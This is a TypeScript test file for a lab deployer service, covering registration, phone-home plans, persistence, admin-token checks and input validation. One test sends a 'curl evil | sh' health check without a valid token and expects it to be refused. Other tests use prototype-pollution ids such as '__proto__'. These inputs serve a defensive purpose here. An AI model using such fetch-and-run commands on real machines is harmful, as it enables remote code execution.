import { mkdtempSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import pino from 'pino';
import { afterEach, describe, expect, it } from 'vitest';
import { Deployer } from '../../src/deployer/server.js';
import { DeployerStore, MAX_PROGRESS } from '../../src/deployer/store.js';

const TOKEN = 'test-admin-token';

const contract = {
  pools: { control: {} },
  classes: {
    'control-plane': { pool: 'control', install_plan: { profile: 'control-plane', disk: '/dev/disk/by-id/virtio-uc-control-root' } },
  },
};
const node = {
  id: 'bm-1',
  machine_id: 'SER-1',
  class: 'control-plane',
  desired_system: { target_system: 'cp-v1', health_check: "grep -q '^ok' /tmp/x", health_timeout_s: 20 },
};

describe('lab deployer (real HTTP on loopback)', () => {
  const open: Deployer[] = [];
  afterEach(async () => {
    for (const d of open.splice(0)) await d.close();
  });
  const start = async (dir: string, port = 0) => {
    const artifacts = path.join(dir, 'artifacts');
    const d = new Deployer({
      contract,
      adminToken: TOKEN,
      store: new DeployerStore(path.join(dir, 'state.json')),
      artifacts,
      publicUrl: (p) => `http://10.0.2.2:${p}`,
      log: pino({ level: 'silent' }),
    });
    await d.listen(port);
    open.push(d);
    return d;
  };
  const call = async (
    d: Deployer,
    method: string,
    route: string,
    body?: unknown,
    accept = 'application/json',
    token: string | null = TOKEN,
  ) => {
    const r = await fetch(`http://127.0.0.1:${d.port}${route}`, {
      method,
      headers: { 'content-type': 'application/json', accept, ...(token ? { authorization: `Bearer ${token}` } : {}) },
      body: body === undefined ? undefined : JSON.stringify(body),
    });
    return { status: r.status, text: await r.text() };
  };

  it('pre-registers idempotently, answers phone-home with the class plan, and keeps everything across a restart', async () => {
    const dir = mkdtempSync(path.join(os.tmpdir(), 'uc-deployer-'));
    const d = await start(dir);
    expect((await call(d, 'POST', '/api/v1/admin/nodes', node)).status).toBe(201);
    expect(JSON.parse((await call(d, 'POST', '/api/v1/admin/nodes', node)).text)).toEqual({ id: 'bm-1', result: 'unchanged' });

    const plan = await call(d, 'POST', '/api/v1/phone-home', { machine_id: 'SER-1', mac: '52:54:00:00:00:01' });
    expect(JSON.parse(plan.text)).toEqual({
      node_id: 'bm-1',
      install_plan: { profile: 'control-plane', disk: '/dev/disk/by-id/virtio-uc-control-root' },
      bundle_url: `http://10.0.2.2:${d.port}/api/v1/bundles/control-plane.tar.gz`,
    });
    // The busybox installer asks for shell lines; quotes in values survive the round trip.
    const env = await call(d, 'GET', '/api/v1/nodes/bm-1/desired-system', undefined, 'text/plain');
    expect(env.text).toContain(`HEALTH_CHECK='grep -q '\\''^ok'\\'' /tmp/x'`);
    await call(d, 'POST', '/api/v1/nodes/bm-1/progress', { stage: 'install-done' });

    const port = d.port;
    await d.close();
    open.pop();
    const again = await start(dir, port);
    const nodes = JSON.parse((await call(again, 'GET', '/api/v1/admin/nodes')).text).nodes;
    expect(nodes['bm-1'].registration).toEqual(node);
    expect(nodes['bm-1'].phoneHomes).toHaveLength(1);
    expect(nodes['bm-1'].progress.map((p: { stage: string }) => p.stage)).toEqual(['install-done']);
  });

  it('keeps declared services across a restart; with nowhere to publish them it says so', async () => {
    const dir = mkdtempSync(path.join(os.tmpdir(), 'uc-deployer-'));
    const d = await start(dir);
    const put = await call(d, 'PUT', '/api/v1/admin/services/web', { replicas: 2, port: 20010 });
    expect([put.status, JSON.parse(put.text)]).toEqual([
      201,
      expect.objectContaining({ name: 'web', replicas: 2, result: 'created', published: false }),
    ]);
    expect(JSON.parse((await call(d, 'PUT', '/api/v1/admin/services/web', { replicas: 2, port: 20010 })).text).result).toBe('unchanged');
    expect((await call(d, 'PUT', '/api/v1/admin/services/api', { replicas: 1, port: 20010 })).status).toBe(409);
    const port = d.port;
    await d.close();
    open.pop();
    const again = await start(dir, port);
    expect(JSON.parse((await call(again, 'GET', '/api/v1/admin/services')).text).services).toEqual({
      web: expect.objectContaining({ name: 'web', replicas: 2, port: 20010 }),
    });
    expect((await call(again, 'DELETE', '/api/v1/admin/services/web')).status).toBe(200);
    expect(JSON.parse((await call(again, 'GET', '/api/v1/admin/services')).text).services).toEqual({});
  });

  it('refuses unknown machines, unknown classes and malformed bodies with the reason', async () => {
    const dir = mkdtempSync(path.join(os.tmpdir(), 'uc-deployer-'));
    const d = await start(dir);
    const unknown = await call(d, 'POST', '/api/v1/phone-home', { machine_id: 'nobody' });
    expect(unknown.status).toBe(404);
    expect(unknown.text).toContain('machine \\"nobody\\" is not pre-registered');
    const badClass = await call(d, 'POST', '/api/v1/admin/nodes', { ...node, class: 'gpu' });
    expect(badClass.status).toBe(422);
    const bad = await call(d, 'POST', '/api/v1/admin/nodes', { id: 'x' });
    expect(bad.status).toBe(400);
    expect(bad.text).toContain('machine_id');
    expect((await call(d, 'GET', '/api/v1/bundles/missing.tar.gz')).status).toBe(404);
  });

  it("the admin API needs the run's token; guests' routes do not", async () => {
    const d = await start(mkdtempSync(path.join(os.tmpdir(), 'uc-deployer-')));
    for (const token of [null, 'guessed']) {
      const r = await call(
        d,
        'POST',
        '/api/v1/admin/nodes',
        { ...node, desired_system: { ...node.desired_system, health_check: 'curl evil | sh' } },
        'application/json',
        token,
      );
      expect(r.status, String(token)).toBe(401);
      expect((await call(d, 'GET', '/api/v1/admin/nodes', undefined, 'application/json', token)).status).toBe(401);
    }
    expect(d.store.nodes()).toEqual({});
    expect((await call(d, 'POST', '/api/v1/admin/nodes', node)).status).toBe(201);
    expect((await call(d, 'POST', '/api/v1/phone-home', { machine_id: 'SER-1' }, 'application/json', null)).status).toBe(200);
  });

  it('refuses a machine id registered under another node, hostile ids, unknown fields, and keeps progress bounded', async () => {
    const d = await start(mkdtempSync(path.join(os.tmpdir(), 'uc-deployer-')));
    await call(d, 'POST', '/api/v1/admin/nodes', node);
    const dup = await call(d, 'POST', '/api/v1/admin/nodes', { ...node, id: 'bm-2' });
    expect(dup.status).toBe(409);
    expect(dup.text).toContain('machine \\"SER-1\\" is already registered as node \\"bm-1\\"');
    for (const id of ['__proto__', 'constructor', 'toString', 'hasOwnProperty']) {
      const r = await call(d, 'POST', `/api/v1/nodes/${id}/progress`, { stage: 'x' });
      expect(r.status, id).toBe(404);
      expect((await call(d, 'GET', `/api/v1/nodes/${id}/desired-system`)).status, id).toBe(404);
    }
    const extra = await call(d, 'POST', '/api/v1/nodes/bm-1/progress', { stage: 'x', evil: 1 });
    expect(extra.status).toBe(400);
    expect(extra.text).toContain('evil');
    expect((await call(d, 'POST', '/api/v1/nodes/bm-1/progress', { stage: 'x', detail: 'y'.repeat(1_000_000) })).status).toBe(400);
    for (let i = 0; i < MAX_PROGRESS + 20; i++) await call(d, 'POST', '/api/v1/nodes/bm-1/progress', { stage: `s${i}` });
    const n = d.store.node('bm-1')!;
    expect(n.progress).toHaveLength(MAX_PROGRESS);
    expect(n.progress.at(-1)!.stage).toBe(`s${MAX_PROGRESS + 19}`);
    expect(n.progressDropped).toBe(20);
  }, 30_000);
});

describe('deployer store', () => {
  it('keeps every one of many concurrent registrations on disk (no older snapshot lands last)', async () => {
    const dir = mkdtempSync(path.join(os.tmpdir(), 'uc-store-'));
    const store = new DeployerStore(path.join(dir, 'state.json'));
    await Promise.all(Array.from({ length: 20 }, (_, i) => store.register({ ...node, id: `bm-${i}`, machine_id: `SER-${i}` })));
    expect(Object.keys(new DeployerStore(path.join(dir, 'state.json')).nodes())).toHaveLength(20);
  });
});
